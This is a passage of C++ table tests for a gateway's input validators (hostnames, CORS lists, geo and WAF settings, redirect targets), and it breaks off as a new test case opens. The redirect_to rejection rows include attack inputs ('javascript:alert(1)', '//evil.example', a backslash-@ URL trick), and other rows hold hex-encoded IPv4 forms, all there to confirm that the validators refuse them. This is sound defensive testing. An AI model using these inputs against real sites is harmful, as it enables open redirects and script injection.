// Table tests of the field rules (CONTRACT.md section 3): for each rule, rows it accepts and rows
// it rejects with the reason. The WAF directive tables include one rejecting row per tenant-escape.
#include "commands/fields.h"
#include "commands/waf_scan.h"
#include "core/error.h"

#include <doctest/doctest.h>
#include <modsecurity/intervention.h>
#include <modsecurity/modsecurity.h>
#include <modsecurity/rules_set.h>
#include <modsecurity/transaction.h>
#include <rapidjson/document.h>

#include <chrono>
#include <string>
#include <thread>
#include <vector>

namespace gw::fields {
namespace {

struct Ok {
  std::string in;
};

struct Bad {
  std::string in;
  std::string why;  // a part of the expected message
};

void expect_ok(const Problem& p) { CHECK_MESSAGE(!p.has_value(), p.value_or("")); }

void expect_bad(const Problem& p, const std::string& why) {
  CHECK(p.has_value());
  if (p) CHECK_MESSAGE(p->find(why) != std::string::npos, *p);
}

// "<path> <message>" of each problem, one per line.
std::string lines(const Problems& problems) {
  std::string out;
  for (const auto& p : problems) out += p.path + " " + p.message + "\n";
  return out;
}

void expect_ok(const Problems& p) { CHECK_MESSAGE(p.empty(), lines(p)); }

void expect_bad(const Problems& p, const std::string& why) {
  CHECK_FALSE(p.empty());
  CHECK_MESSAGE(lines(p).find(why) != std::string::npos, lines(p));
}

rapidjson::Document json(const std::string& text) {
  rapidjson::Document doc;
  doc.Parse<rapidjson::kParseIterativeFlag>(text.c_str());
  REQUIRE_FALSE(doc.HasParseError());
  return doc;
}

std::string repeat(const std::string& s, size_t n) {
  std::string out;
  for (size_t i = 0; i < n; ++i) out += s;
  return out;
}

std::string join(const std::vector<std::string>& items, const std::string& sep) {
  std::string out;
  for (size_t i = 0; i < items.size(); ++i) out += (i ? sep : "") + items[i];
  return out;
}

// `n` WAF rules of the kind tenants write, ids 1..n.
std::string many_rules(int n) {
  std::string out = "# tenant rules\n";
  for (int i = 1; i <= n; ++i) {
    auto id = std::to_string(i);
    out += "SecRule ARGS|REQUEST_HEADERS:User-Agent \"@rx (?i)bad" + id +
           "\\w+\" \\\n    \"id:" + id + ",phase:2,deny,status:403,t:none,t:lowercase,msg:'rule " +
           id + "',tag:'tenant'\"\n";
  }
  return out;
}

TEST_CASE("hostname accepts and normalizes") {
  struct Row {
    std::string in;
    std::string want;
  };
  const std::string l63(63, 'a');
  const std::string n253 = l63 + "." + l63 + "." + l63 + "." + std::string(61, 'd');
  const Row rows[] = {
      {"example.com", "example.com"},
      {"Shop.Example.COM.", "shop.example.com"},
      {"a.b.c.example.co.uk", "a.b.c.example.co.uk"},
      {"xn--bcher-kva.example", "xn--bcher-kva.example"},
      {"example.xn--p1ai", "example.xn--p1ai"},
      {"XN--Bcher-KVA.example", "xn--bcher-kva.example"},
      {"xn--d1acpjx3f.xn--p1ai", "xn--d1acpjx3f.xn--p1ai"},
      {"xn--55qx5d.cn", "xn--55qx5d.cn"},
      {"xn--mnchen-3ya.de", "xn--mnchen-3ya.de"},
      {"xn--strae-oqa.de", "xn--strae-oqa.de"},
      // Hyphens in the third and fourth places of a label that is not xn-- are used in the wild.
      {"r3---sn-abc.example.com", "r3---sn-abc.example.com"},
      {"a-b.1c.example.com", "a-b.1c.example.com"},
      {"123.example.com", "123.example.com"},
      {l63 + ".com", l63 + ".com"},
      {n253, n253},
      {n253 + ".", n253},
  };
  for (const auto& r : rows) {
    CAPTURE(r.in);
    std::string out;
    expect_ok(hostname(r.in, &out));
    CHECK(out == r.want);
  }
}

TEST_CASE("hostname rejects") {
  const std::string l63(63, 'a');
  const Bad rows[] = {
      {"", "must not be empty"},
      {".", "must not be empty"},
      {"localhost", "at least two labels"},
      {"com.", "at least two labels"},
      {"a..example.com", "empty labels"},
      {".example.com", "empty labels"},
      {"example.com..", "empty labels"},
      {"-a.example.com", "hyphen"},
      {"a-.example.com", "hyphen"},
      {"a_b.example.com", "letters, digits, hyphens"},
      {"exa mple.com", "letters, digits, hyphens"},
      {"example.com/path", "letters, digits, hyphens"},
      {"*.example.com", "wildcards"},
      {"a.*.example.com", "wildcards"},
      {"1.2.3.4", "not an IP address"},
      {"1.2.3.4.", "not an IP address"},
      // A last label that is a number is no IP address, but URL parsers read it as one: said so
      // (it was called an IP address).
      {"example.123", "must not end in a numeric label"},
      {"1.2.3.4.5", "must not end in a numeric label"},
      // Hex forms that inet_aton and URL parsers read as IPv4 (was accepted).
      {"0x7f.0x1", "not an IP address"},
      {"127.0.0.0x1", "not an IP address"},
      {"foo.0X1", "must not end in a numeric label"},
      {"0x7f000001.0x", "not an IP address"},
      {"0x.1", "not an IP address"},  // 0.0.0.1 to URL parsers; inet_aton refuses a bare 0x
      {"1.2.3.256", "not an IP address"},
      {"1.0x.a.2", "must not end in a numeric label"},
      {"[::1]", "not an IP address"},
      {"::1", "not an IP address"},
      {"example.com:443", "host:port"},
      {"b\xc3\xbc"
       "cher.example",
       "ASCII"},
      // xn-- labels that are no A-label were accepted: no browser can ask for such a name.
      {"xn--zz.com",
       "label 'xn--zz' is not a valid internationalized (xn--) label: string "
       "contains invalid punycode data"},
      {"shop.xn--a.com", "label 'xn--a' is not a valid internationalized"},  // U+0080
      {"xn--0.example", "invalid punycode"},
      {"xn--ls8h.example", "label 'xn--ls8h' is not"},        // an emoji: not IDNA2008
      {"xn--uber-vwc.example", "not in Unicode NFC"},         // u and a combining diaeresis
      {"xn--ab-tub.example", "leading combining"},            // a diaeresis first
      {"xn--a-jnc3d.example", "bi-directional"},              // Arabic letters, then a Latin one
      {"xn--ber-ska.example", "label 'xn--ber-ska' is not"},  // Über: upper case
      {std::string(64, 'a') + ".com", "63 bytes"},
      {l63 + "." + l63 + "." + l63 + "." + std::string(62, 'd'), "253 bytes"},
  };
  for (const auto& r : rows) {
    CAPTURE(r.in);
    std::string out = "unchanged";
    expect_bad(hostname(r.in, &out), r.why);
    CHECK(out == "unchanged");
  }
}

TEST_CASE("is_at_or_under") {
  struct Row {
    std::string name;
    std::string zone;
    bool want;
  };
  const Row rows[] = {
      {"example.com", "example.com", true},       {"shop.example.com", "example.com", true},
      {"a.b.example.com", "example.com", true},   {"badexample.com", "example.com", false},
      {"example.com", "shop.example.com", false}, {"example.com.evil.net", "example.com", false},
      {"xample.com", "example.com", false},       {"example.com", "", false},
  };
  for (const auto& r : rows) {
    CAPTURE(r.name);
    CAPTURE(r.zone);
    CHECK(is_at_or_under(r.name, r.zone) == r.want);
  }
}

TEST_CASE("cors_origins") {
  const Ok ok[] = {
      {""},
      {"*"},
      {"https://example.com"},
      {"http://localhost"},
      {"http://localhost:3000"},
      {"http://127.0.0.1:8080"},
      {"https://example.com:65535"},
      {"https://xn--bcher-kva.example"},
      {"http://[::1]"},
      {"http://[::1]:8080"},
      {"https://[2001:db8::7]"},
      {"https://[2001:db8:0:1::1]:8443"},
      {"http://example.com:443"},
      {"https://example.com:80"},
      {"https://[fe80::]"},
      {"https://[::]"},
      {"https://[1:2:3:4:5:6:7:8]"},
      {"https://[::ffff:102:304]"},
      {"https://[2001:db8::1:0:0:1]"},
      {"https://[2001:db8:0:1:1:1:1:1]"},
      {"https://[1::2:0:0:3]"},
      {"https://a.example.com,https://b.example.com"},
      {"https://a.example.com, https://b.example.com ,\thttp://c.example.com"},
  };
  for (const auto& r : ok) {
    CAPTURE(r.in);
    expect_ok(cors_origins(r.in));
  }
  const Bad bad[] = {
      {"*, https://a.example.com", "* alone"},
      {"https://a.example.com,,https://b.example.com", "empty items"},
      {"https://a.example.com,", "empty items"},
      {" , ", "empty items"},
      {"example.com", "http:// or https://"},
      {"ftp://example.com", "http:// or https://"},
      {"HTTPS://example.com", "http:// or https://"},
      {"https://example.com/", "no path"},
      {"https://example.com/app", "no path"},
      {"https://example.com?x=1", "no path"},
      {"https://user@example.com", "userinfo"},
      {"https://example.com:0", "1-65535"},
      {"https://example.com:65536", "1-65535"},
      {"https://example.com:080", "1-65535"},
      {"https://example.com:", "1-65535"},
      {"https://Example.com", "lower case"},
      {"https://example.com.", "lower case"},
      // `localhost` in another case or with a trailing dot is the case rule's, not a one-label
      // hostname's (was "must have at least two labels", helper 134).
      {"https://LOCALHOST", "origin hosts must be lower case without a trailing dot"},
      {"http://LocalHost:3000", "origin hosts must be lower case without a trailing dot"},
      {"http://localhost.", "origin hosts must be lower case without a trailing dot"},
      {"https://[::1]:", "1-65535"},
      {"https://[::1]:0", "1-65535"},
      {"https://[::1]x", "no path, query or userinfo"},
      {"https://[::1", "must be IPv6 addresses"},
      {"https://[example.com]", "must be IPv6 addresses"},
      {"https://[1.2.3.4]", "must be IPv6 addresses"},
      {"https://[::1%25eth0]", "must be IPv6 addresses"},
      {"https://[]", "must be IPv6 addresses"},
      {"https://[::1]:8080:1", "1-65535"},
      {"https://[::1]]", "no path, query or userinfo"},
      // Another spelling of an address browsers write one way: no Origin header would match it.
      {"https://[0:0:0:0:0:0:0:1]", "as browsers send them: [::1]"},
      {"https://[2001:DB8::7]", "as browsers send them: [2001:db8::7]"},
      {"https://[2001:0db8::7]", "as browsers send them: [2001:db8::7]"},
      {"https://[2001:db8:0:0:1::1]", "as browsers send them: [2001:db8::1:0:0:1]"},
      {"https://[2001:db8::1:1:1:1:1]", "as browsers send them: [2001:db8:0:1:1:1:1:1]"},
      {"https://[2001:db8::0:1]", "as browsers send them: [2001:db8::1]"},
      {"https://[2001:db8:0:1:0:0:0:1]:443", "as browsers send them: [2001:db8:0:1::1]"},
      // The scheme's default port, which browsers leave out of Origin (was accepted).
      {"https://example.com:443",
       "origins must leave out the scheme's default port, as browsers send them: "
       "https://example.com"},
      {"http://localhost:80", "as browsers send them: http://localhost"},
      {"https://[::1]:443", "as browsers send them: https://[::1]"},
      {"https://[::ffff:1.2.3.4]", "as browsers send them: [::ffff:102:304]"},
      {"http://intranet", "at least two labels"},
      {"https://256.1.1.1", "not an IP address"},
      {"https://shop.123", "must not end in a numeric label"},
      {"https://*.example.com", "wildcards"},
      {"https://a.example.com https://b.example.com", "separate origins with commas"},
      {"https://a.example.com, https://a.example.com", "repeat"},
      {"https://" + std::string(4090, 'a') + ".com", "4096 bytes"},
  };
  for (const auto& r : bad) {
    CAPTURE(r.in);
    expect_bad(cors_origins(r.in), r.why);
  }
}

TEST_CASE("cors_methods") {
  for (const auto& r :
       {Ok{""}, Ok{"GET"}, Ok{"GET,POST"}, Ok{"GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS"}}) {
    CAPTURE(r.in);
    expect_ok(cors_methods(r.in));
  }
  const Bad bad[] = {
      {"get", "upper case"},        {"CONNECT", "GET, HEAD"},
      {"TRACE", "GET, HEAD"},       {"GET;POST", "GET, HEAD"},
      {"GET,,POST", "empty items"}, {"GET,", "empty items"},
      {"GET, GET", "repeat"},       {repeat("GET,", 1024) + "GET", "4096 bytes"},
  };
  for (const auto& r : bad) {
    CAPTURE(r.in);
    expect_bad(cors_methods(r.in), r.why);
  }
}

TEST_CASE("cors_headers") {
  const Ok ok[] = {{""},
                   {"Content-Type"},
                   {"content-type, x-requested-with"},
                   {"X-Custom_Header.1"},
                   {"*"},
                   {"Authorization,X-Api-Key"},
                   {"x-!#$%&'*+-.^_`|~"}};
  for (const auto& r : ok) {
    CAPTURE(r.in);
    expect_ok(cors_headers(r.in));
  }
  const Bad bad[] = {
      {"Content Type", "RFC 9110 tokens"},
      {"X-(bad)", "RFC 9110 tokens"},
      {"x:y", "RFC 9110 tokens"},
      {"x-\xc3\xa4", "RFC 9110 tokens"},
      {"a,,b", "empty items"},
      {"a,", "empty items"},
      {"Content-Type, content-type", "repeat"},
      {std::string(4097, 'x'), "4096 bytes"},
  };
  for (const auto& r : bad) {
    CAPTURE(r.in);
    expect_bad(cors_headers(r.in), r.why);
  }
}

// Each bad item of a CORS list was reported alone: the first one, and a client that fixed it got
// the next one in another 422.
TEST_CASE("every bad item of a CORS list is a problem of its own, quoting the item") {
  CHECK(lines(cors_origins("ftp://a.com, https://A.com,https://ok.example,https://b.com/x")) ==
        " \"ftp://a.com\": origins must start with http:// or https://\n"
        " \"https://A.com\": origin hosts must be lower case without a trailing dot\n"
        " \"https://b.com/x\": origins must be scheme://host[:port] with no path, query or "
        "userinfo\n");
  CHECK(lines(cors_origins("https://a.com,,https://a.com,*,")) ==
        " must not contain empty items (check for doubled or trailing commas)\n"
        " \"https://a.com\": must not repeat an origin\n"
        " must use * alone, not in a list\n");
  CHECK(lines(cors_methods("get,TRACE,GET,GET")) ==
        " \"get\": must list only GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS (upper case)\n"
        " \"TRACE\": must list only GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS (upper case)\n"
        " \"GET\": must not repeat a method\n");
  CHECK(lines(cors_headers("X-A, a b,x-a,c\"d")) ==
        " \"a b\": must list only header names (RFC 9110 tokens)\n"
        " \"x-a\": must not repeat a header name\n"
        " \"c\\\"d\": must list only header names (RFC 9110 tokens)\n");
  // A quote or backslash in an item is escaped, and a control character written as \u00XX, so
  // the quote ends where it seems to (before: "c"d", "a\b").
  CHECK(lines(cors_headers("a\\b,c\td,e\x7f")) ==
        " \"a\\\\b\": must list only header names (RFC 9110 tokens)\n"
        " \"c\\u0009d\": must list only header names (RFC 9110 tokens)\n"
        " \"e\\u007f\": must list only header names (RFC 9110 tokens)\n");
  // So is a C1 control character (U+0080 to U+009F, two bytes in UTF-8): U+009B, a terminal's
  // CSI, was quoted raw, and "GE<U+009B>T" showed as "GET"; U+00A0 is no control character.
  CHECK(
      lines(cors_methods("GE\xc2\x9bT,a\xc2\x85,b\xc2\xa0")) ==
      " \"GE\\u009bT\": must list only GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS (upper case)\n"
      " \"a\\u0085\": must list only GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS (upper case)\n"
      " \"b\xc2\xa0\": must list only GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS (upper case)\n");
  // A long item is quoted by its first 64 bytes, cut before a character that would not fit whole.
  const std::string long_item = repeat("a", 63) + "\xc3\xa9" + repeat("b", 100);
  CHECK(lines(cors_headers(long_item)) ==
        " \"" + repeat("a", 63) + "...\": must list only header names (RFC 9110 tokens)\n");
  // A list over the limit is that one problem; its items are not looked at.
  CHECK(lines(cors_methods(repeat("get,", 1024) + "x")) == " must be at most 4096 bytes\n");
  // A bad item given again is not a second entry: they were alike, byte for byte (helper 165).
  CHECK(lines(cors_methods("GET,get,get,get")) ==
        " \"get\": must list only GET, HEAD, POST, PUT, PATCH, DELETE, OPTIONS (upper case)\n");
  CHECK(lines(cors_origins("ftp://a.com,https://b.com,ftp://a.com")) ==
        " \"ftp://a.com\": origins must start with http:// or https://\n");
  CHECK(lines(cors_headers("a b,X,a b,A B,x")) ==
        " \"a b\": must list only header names (RFC 9110 tokens)\n"
        " \"A B\": must list only header names (RFC 9110 tokens)\n"
        " \"x\": must not repeat a header name\n");
}

TEST_CASE("geo_policy") {
  const Ok ok[] = {
      {"null"},
      {R"({"mode":"allow","countries":["US"]})"},
      {R"({"countries":["DE","FR","GB","AX","SS","BQ","ZW"],"mode":"block"})"},
  };
  for (const auto& r : ok) {
    CAPTURE(r.in);
    expect_ok(geo_policy(json(r.in)));
  }
  std::vector<std::string> codes;
  for (char a = 'A'; a <= 'Z'; ++a) {
    for (char b = 'A'; b <= 'Z'; ++b) codes.push_back(std::string("\"") + a + b + "\"");
  }
  const std::string too_many =
      R"({"mode":"allow","countries":[)" +
      join(std::vector<std::string>(codes.begin(), codes.begin() + 251), ",") + "]}";
  const Bad bad[] = {
      {"[]", "null or an object"},
      {R"("US")", "null or an object"},
      {"{}", "missing member \"mode\""},
      {R"({"mode":"allow"})", "missing member \"countries\""},
      {R"({"mode":"allow","countries":["US"],"extra":1})", "unknown member \"extra\""},
      {R"({"mode":"allow","mode":"block","countries":["US"]})", "duplicate member \"mode\""},
      {R"({"mode":"ALLOW","countries":["US"]})", "allow, block"},
      {R"({"mode":1,"countries":["US"]})", "allow, block"},
      {R"({"mode":"allow","countries":"US"})", "must be an array"},
      {R"({"mode":"allow","countries":[]})", "1-250"},
      {too_many, "1-250"},
      {R"({"mode":"allow","countries":["us"]})", "countries[0] must be an assigned"},
      {R"({"mode":"allow","countries":["US","ZZ"]})", "countries[1] must be an assigned"},
      {R"({"mode":"allow","countries":["UK"]})", "assigned"},
      {R"({"mode":"allow","countries":["EU"]})", "assigned"},
      {R"({"mode":"allow","countries":["USA"]})", "assigned"},
      {R"({"mode":"allow","countries":[1]})", "assigned"},
      {R"({"mode":"allow","countries":["US","DE","US"]})", "countries[2] repeats US"},
  };
  for (const auto& r : bad) {
    CAPTURE(r.in);
    expect_bad(geo_policy(json(r.in)), r.why);
  }
  // Every problem, not only the first (the contract's `errors` lists them all).
  CHECK(lines(geo_policy(json(R"({"mode":"x","countries":["ZZ","US","US"]})"))) ==
        ".mode must be one of allow, block\n"
        ".countries[0] must be an assigned ISO 3166-1 alpha-2 code in upper case\n"
        ".countries[2] repeats US\n");
  // A missing, unknown or repeated member hid every other problem of the object (was only the
  // first line of each).
  CHECK(lines(geo_policy(json(R"({"mode":"sometimes","countries":["xx"],"extra":1})"))) ==
        " has unknown member \"extra\"\n"
        ".mode must be one of allow, block\n"
        ".countries[0] must be an assigned ISO 3166-1 alpha-2 code in upper case\n");
  CHECK(lines(geo_policy(json("{}"))) ==
        " is missing member \"mode\"\n"
        " is missing member \"countries\"\n");
  // Too many codes, and what is wrong with them: the count's problem hid the codes', so a client
  // that fixed the count met them in a second 422 (helper 165).
  std::vector<std::string> us(250, "\"US\"");
  const Problems over =
      geo_policy(json(R"({"mode":"allow","countries":["us",)" + join(us, ",") + "]}"));
  REQUIRE(over.size() > 3);
  CHECK(lines({over.begin(), over.begin() + 3}) ==
        ".countries must hold 1-250 country codes\n"
        ".countries[0] must be an assigned ISO 3166-1 alpha-2 code in upper case\n"
        ".countries[2] repeats US\n");
  // A list the body's size alone bounds stops once it has more problems than a reply lists of
  // one field: the count's entry and 11 of the codes'.
  std::vector<std::string> bad_codes(200000, "\"XX\"");
  CHECK(geo_policy(json(R"({"mode":"allow","countries":[)" + join(bad_codes, ",") + "]}")).size() ==
        gw::FieldErrors::kMaxPerField + 2);
  CHECK(lines(geo_policy(json(R"({"countries":["xx"],"x":1,"countries":[]})"))) ==
        " has unknown member \"x\"\n"
        " has duplicate member \"countries\"\n"
        " is missing member \"mode\"\n"
        ".countries[0] must be an assigned ISO 3166-1 alpha-2 code in upper case\n");
}

TEST_CASE("waf_overrides") {
  std::vector<std::string> members;
  for (int i = 0; i < 256; ++i)
    members.push_back("\"k" + std::to_string(i) + "\":" + std::to_string(i));
  const std::string m256 = "{" + join(members, ",") + "}";
  const std::string m257 = "{" + join(members, ",") + ",\"one_more\":1}";
  const std::string split257 =
      "{\"a\":{" + join(std::vector<std::string>(members.begin(), members.begin() + 128), ",") +
      "},\"b\":{" + join(std::vector<std::string>(members.begin(), members.begin() + 127), ",") +
      "}}";
  const Ok ok[] = {
      {"null"},
      {"{}"},
      {R"({"rules":{"942100":"off"},"paths":["/a",{"x":[1,2]}]})"},
      {repeat("{\"a\":", 7) + "{}" + repeat("}", 7)},
      {"{\"a\":[[[[[[[1]]]]]]]}"},
      {m256},
      {"{\"a\":[" + join(std::vector<std::string>(4096, "1e20"), ",") + "]}"},
      {"{\"a\":[" + join(std::vector<std::string>(4000, "1"), ",") + "],\"b\":[" +
       join(std::vector<std::string>(95, "2"), ",") + "],\"c\":3}"},
  };
  for (const auto& r : ok) {
    CAPTURE(r.in);
    expect_ok(waf_overrides(json(r.in)));
  }
  const Bad bad[] = {
      {"[]", "null or an object"},
      {"1", "null or an object"},
      {R"("x")", "null or an object"},
      {repeat("{\"a\":", 8) + "{}" + repeat("}", 8), "8 levels"},
      {"{\"a\":[[[[[[[[1]]]]]]]]}", "8 levels"},
      {m257, "256 members"},
      {split257, "256 members"},
      // 1e20 is stored as 100000000000000000000.0: a 1 MiB body of them was a 5 MB record.
      {"{\"a\":[" + join(std::vector<std::string>(4097, "1e20"), ",") + "]}", "4096 numbers"},
      {"{\"a\":[" + join(std::vector<std::string>(4000, "1"), ",") + "],\"b\":[" +
           join(std::vector<std::string>(96, "2"), ",") + "],\"c\":3}",
       "4096 numbers"},
      // Ambiguous JSON was stored as sent (was accepted).
      {R"({"a":1,"a":2})", "member twice"},
      {R"({"x":{"a":1,"b":[{"c":1,"c":2}]}})", "member twice"},
      {repeat("{\"a\":", 100000) + "1" + repeat("}", 100000), "8 levels"},
      {"{\"a\":" + repeat("[", 100000) + repeat("]", 100000) + "}", "8 levels"},
  };
  for (const auto& r : bad) {
    CAPTURE(r.in.substr(0, 60));
    expect_bad(waf_overrides(json(r.in)), r.why);
  }
}

TEST_CASE("waf_overrides reports each of its problems, once") {
  // Nested 9 deep, 300 members in all, and a name given twice in two objects.
  std::string deep = repeat("{\"a\":", 8) + "1" + repeat("}", 8);
  std::string many = "{";
  for (int i = 0; i < 300; ++i) many += (i ? ",\"m" : "\"m") + std::to_string(i) + "\":1";
  many += "}";
  const std::string both = "{\"deep\":" + deep + ",\"many\":" + many + ",\"x\":{\"y\":1,\"y\":2}," +
                           "\"z\":{\"y\":1,\"y\":2}}";
  CHECK(lines(waf_overrides(json(both))) ==
        " must be nested at most 8 levels deep\n"
        " must have at most 256 members in all\n"
        " must not give a member twice in one object\n");
  CHECK(lines(waf_overrides(json("{\"deep\":" + deep + "}"))) ==
        " must be nested at most 8 levels deep\n");
}

TEST_CASE("waf_rule_exclusions") {
  const std::string entry = R"({"path_prefix":"/api/","remove_rule_ids":[942100]})";
  std::vector<std::string> ids;
  for (int i = 1; i <= 257; ++i) ids.push_back(std::to_string(i));
  const Ok ok[] = {
      {"null"},
      {"[]"},
      {R"([{"path_prefix":"/","remove_rule_ids":[1]}])"},
      {R"([{"remove_rule_ids":[942100,99999999],"path_prefix":"/api/v1/%7Euser"}])"},
      {"[" + join(std::vector<std::string>(256, entry), ",") + "]"},
      {R"([{"path_prefix":"/","remove_rule_ids":[)" +
       join(std::vector<std::string>(ids.begin(), ids.begin() + 256), ",") + "]}]"},
  };
  for (const auto& r : ok) {
    CAPTURE(r.in.substr(0, 80));
    expect_ok(waf_rule_exclusions(json(r.in)));
  }
  const Bad bad[] = {
      {"{}", "null or an array"},
      {R"("x")", "null or an array"},
      {"[" + join(std::vector<std::string>(257, entry), ",") + "]", "at most 256 entries"},
      {"[1]", "[0] must be an object"},
      {R"([{"path_prefix":"/"}])", "[0] is missing member \"remove_rule_ids\""},
      {R"([{"path_prefix":"/","remove_rule_ids":[1],"x":1}])", "unknown member \"x\""},
      {R"([{"path_prefix":"/","path_prefix":"/a","remove_rule_ids":[1]}])", "duplicate member"},
      {R"([{"path_prefix":1,"remove_rule_ids":[1]}])", "path_prefix must be a string"},
      {R"([{"path_prefix":"api/","remove_rule_ids":[1]}])", "start with '/'"},
      {R"([{"path_prefix":"","remove_rule_ids":[1]}])", "start with '/'"},
      {R"([{"path_prefix":"/a b","remove_rule_ids":[1]}])", "spaces or control"},
      {R"([{"path_prefix":"/a\u0001","remove_rule_ids":[1]}])", "spaces or control"},
      {R"([{"path_prefix":"/)" + std::string(1024, 'a') + R"(","remove_rule_ids":[1]}])",
       "1024 bytes"},
      {R"([{"path_prefix":"/","remove_rule_ids":"1"}])", "must be an array"},
      {R"([{"path_prefix":"/","remove_rule_ids":[]}])", "1-256"},
      {R"([{"path_prefix":"/","remove_rule_ids":[)" + join(ids, ",") + "]}]", "1-256"},
      {R"([{"path_prefix":"/","remove_rule_ids":[0]}])",
       "remove_rule_ids[0] must be an integer in 1..99999999"},
      {R"([{"path_prefix":"/","remove_rule_ids":[1,100000000]}])", "remove_rule_ids[1]"},
      {R"([{"path_prefix":"/","remove_rule_ids":[-1]}])", "1..99999999"},
      {R"([{"path_prefix":"/","remove_rule_ids":[1.5]}])", "1..99999999"},
      {R"([{"path_prefix":"/","remove_rule_ids":[1.0]}])", "1..99999999"},
      // A repeated id (was accepted), as geo_policy.countries.
      {R"([{"path_prefix":"/","remove_rule_ids":[7,942100,7]}])",
       "[0].remove_rule_ids[2] must not repeat a rule id"},
      {R"([{"path_prefix":"/","remove_rule_ids":["1"]}])", "1..99999999"},
      {entry.substr(0, 0) + "[" + entry + R"(,{"path_prefix":"x","remove_rule_ids":[1]}])",
       "[1].path_prefix"},
  };
  for (const auto& r : bad) {
    CAPTURE(r.in.substr(0, 80));
    expect_bad(waf_rule_exclusions(json(r.in)), r.why);
  }
  CHECK(lines(waf_rule_exclusions(json(
            R"([{"path_prefix":"x","remove_rule_ids":[0,5,-1]},1,)"
            R"({"path_prefix":"/y","remove_rule_ids":[]},{"path_prefix":"/z"}])"))) ==
        "[0].path_prefix must start with '/'\n"
        "[0].remove_rule_ids[0] must be an integer in 1..99999999\n"
        "[0].remove_rule_ids[2] must be an integer in 1..99999999\n"
        "[1] must be an object\n"
        "[2].remove_rule_ids must hold 1-256 rule ids\n"
        "[3] is missing member \"remove_rule_ids\"\n");
  CHECK(
      lines(waf_rule_exclusions(json(
          R"([{"path_prefix":"nope","remove_rule_ids":[0],"extra":1},{"path_prefix":"nope"},{}])"))) ==
      "[0] has unknown member \"extra\"\n"
      "[0].path_prefix must start with '/'\n"
      "[0].remove_rule_ids[0] must be an integer in 1..99999999\n"
      "[1] is missing member \"remove_rule_ids\"\n"
      "[1].path_prefix must start with '/'\n"
      "[2] is missing member \"path_prefix\"\n"
      "[2] is missing member \"remove_rule_ids\"\n");
  // Too many entries or ids, and what is wrong with them, as geo_policy's countries (helper 165).
  std::vector<std::string> entries(257, entry);
  entries[0] = R"({"path_prefix":"nope","remove_rule_ids":[0]})";
  CHECK(lines(waf_rule_exclusions(json("[" + join(entries, ",") + "]"))) ==
        " must hold at most 256 entries\n"
        "[0].path_prefix must start with '/'\n"
        "[0].remove_rule_ids[0] must be an integer in 1..99999999\n");
  std::vector<std::string> many_ids = ids;
  many_ids[0] = "0";
  CHECK(lines(waf_rule_exclusions(
            json(R"([{"path_prefix":"/","remove_rule_ids":[)" + join(many_ids, ",") + "]}]"))) ==
        "[0].remove_rule_ids must hold 1-256 rule ids\n"
        "[0].remove_rule_ids[0] must be an integer in 1..99999999\n");
  // Up to the 256 entries allowed each is looked at, however many problems came before: 101 of
  // one kind hid a later entry's other (helper 168).
  std::vector<std::string> bad_ids(101, R"({"path_prefix":"/","remove_rule_ids":[0]})");
  bad_ids.push_back(R"({"path_prefix":"nope","remove_rule_ids":[1]})");
  CHECK(lines(waf_rule_exclusions(json("[" + join(bad_ids, ",") + "]")))
            .ends_with("[100].remove_rule_ids[0] must be an integer in 1..99999999\n"
                       "[101].path_prefix must start with '/'\n"));
  // And an unknown member: the members' check counted the problems of every entry before, and
  // stopped at 100 (helper 171).
  bad_ids.back() = R"({"path_prefix":"/","remove_rule_ids":[1],"note":"x"})";
  CHECK(lines(waf_rule_exclusions(json("[" + join(bad_ids, ",") + "]")))
            .ends_with("[101] has unknown member \"note\"\n"));
  std::vector<std::string> zeros(200000, "0");
  CHECK(waf_rule_exclusions(
            json(R"([{"path_prefix":"/","remove_rule_ids":[)" + join(zeros, ",") + "]}]"))
            .size() == gw::FieldErrors::kMaxPerField + 2);
}

TEST_CASE("is_registrable_domain") {
  struct Row {
    std::string host;
    bool want;
  };
  const Row rows[] = {
      {"example.com", true},
      {"shop.example.com", false},
      {"example.co.uk", true},
      {"co.uk", false},
      {"com", false},
      {"foo.github.io", true},
      {"github.io", false},
      {"", false},
      {"a.b.example.co.uk", false},
  };
  for (const auto& r : rows) {
    CAPTURE(r.host);
    CHECK(is_registrable_domain(r.host) == r.want);
  }
}

TEST_CASE("opaque_id") {
  for (const auto& r : {Ok{"team_demo"}, Ok{"a"}, Ok{std::string(128, 'x')},
                        Ok{"\xc3\xbcnic\xc3\xb8"
                           "de id"},
                        Ok{"wl/42:a"}}) {
    CAPTURE(r.in);
    expect_ok(opaque_id(r.in, 128));
  }
  const Bad bad[] = {
      {"", "must not be empty"},
      {std::string(129, 'x'), "at most 128 bytes"},
      {"a\tb", "control characters"},
      {"a\nb", "control characters"},
      {"a\x7f", "control characters"},
      {"a\xc2\x85"
       "b",
       "control characters"},
  };
  for (const auto& r : bad) {
    CAPTURE(r.in);
    expect_bad(opaque_id(r.in, 128), r.why);
  }
}

TEST_CASE("redirect_to") {
  const Ok ok[] = {
      {""},
      {"example.com"},
      {"Example.COM."},
      {"https://example.com"},
      {"http://example.com:8080/path?q=1#frag"},
      {"https://shop.example.com/a/b/"},
      {"https://example.com?x=1"},
      {"https://example.com/" + std::string(2028, 'a')},
  };
  for (const auto& r : ok) {
    CAPTURE(r.in);
    expect_ok(redirect_to(r.in));
  }
  const Bad bad[] = {
      {"http://", "URL host must not be empty"},
      {"ftp://example.com", "http:// or https://"},
      {"HTTPS://example.com", "http:// or https://"},
      {"javascript:alert(1)", "hostname or an http"},
      {"//evil.example", "hostname or an http"},
      {"example.com/path", "hostname or an http"},
      {"localhost", "hostname or an http"},
      // What is wrong with it as a hostname is said too (it was left out).
      {"localhost", "URL; as a hostname, it must have at least two labels"},
      {"example.123", "URL; as a hostname, it must not end in a numeric label"},
      {"https://user@example.com", "userinfo"},
      {"https://1.2.3.4/", "not an IP address"},
      {"https://0x7f.0x1/", "not an IP address"},
      {"https://[::1]/", "not IP addresses"},
      {"https://example.com:0/", "1-65535"},
      {"https://example.com:99999", "1-65535"},
      {"https://exa mple.com", "spaces"},
      {"https://example.com/\x01", "control"},
      {"https://example.com\\@evil.example", "backslashes"},
      {"https://*.example.com/", "wildcards"},
      {"https://example.com/" + std::string(2029, 'a'), "2048 bytes"},
  };
  for (const auto& r : bad) {
    CAPTURE(r.in);
    expect_bad(redirect_to(r.in), r.why);
  }
}

TEST_CASE("redirect_to gives the hostname a request to the target reaches") {
